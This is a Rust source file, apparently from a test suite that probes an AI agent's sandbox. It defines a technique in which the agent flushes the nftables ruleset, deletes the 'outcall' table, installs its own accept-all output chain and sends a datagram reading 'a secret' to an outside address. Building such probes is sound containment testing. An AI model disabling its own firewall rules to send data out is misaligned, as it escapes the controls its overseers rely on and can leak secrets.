//! The agent's own hand on the ruleset.

use std::io;
use std::process::{Command, Stdio};

use crate::inside::Inside;
use crate::prelude::*;

pub(super) const TECHNIQUE: Technique = Technique {
    id: "own-tables",
    family: Family::Kernel,
    name: "The agent's own hand on the ruleset",
    tries: "Flushes the ruleset of its namespace and adds a table of its own that accepts everything, then sends a datagram.",
    danger: "Who may change the rules needs no way around them.",
    places: Places::Apart,
    steps: &[
        Step::Do("runs nft(8) to flush all tables and to add one", flush),
        Step::Udp(At(ELSEWHERE, 7000), Bytes(b"a secret")),
    ],
    expect: ONE_PACKET,
    on_host: None,
};

fn flush(inside: &Inside) -> io::Result<()> {
    const OWN: &str =
        "add table inet own; add chain inet own all { type filter hook output priority -300; policy accept; }";
    for words in [&["flush", "ruleset"][..], &["delete", "table", "inet", "outcall"], &[OWN]] {
        let ran = match Command::new("nft").args(words).stdin(Stdio::null()).output() {
            Err(error) if error.kind() == io::ErrorKind::NotFound => {
                return Err(io::Error::new(io::ErrorKind::Unsupported, "the image has no nft(8)"));
            }
            ran => ran?,
        };
        if ran.status.success() && words.len() == 1 {
            inside.got("a table of its own");
        }
    }
    Ok(())
}
